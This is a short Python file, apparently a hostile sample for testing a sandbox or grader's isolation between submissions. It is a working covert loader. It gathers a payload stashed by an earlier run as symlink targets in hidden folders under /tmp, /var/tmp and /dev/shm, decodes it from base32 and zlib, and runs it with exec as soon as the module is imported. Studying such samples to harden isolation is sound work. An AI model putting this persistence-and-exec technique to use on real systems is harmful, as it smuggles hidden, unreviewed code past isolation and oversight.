"""A stub that loads the source an earlier submission left in symlink targets.

base: stub
class: 2
run: later
"""

import base64 as _base64
import os as _os
import zlib as _zlib

_STASHES = ["/tmp/.hostile-links-@TOKEN@", "/var/tmp/.hostile-links-@TOKEN@", "/dev/shm/.hostile-links-@TOKEN@"]


def _read():
    for folder in _STASHES:
        try:
            names = sorted(_os.listdir(folder))
            packed = "".join(_os.readlink(f"{folder}/{name}") for name in names)
            return _zlib.decompress(_base64.b32decode(packed)).decode()
        except (OSError, ValueError, _zlib.error):
            continue
    return None


class _AtLoad:
    _found = _read()
    if _found:
        exec(compile(_found, "stash", "exec"), globals())
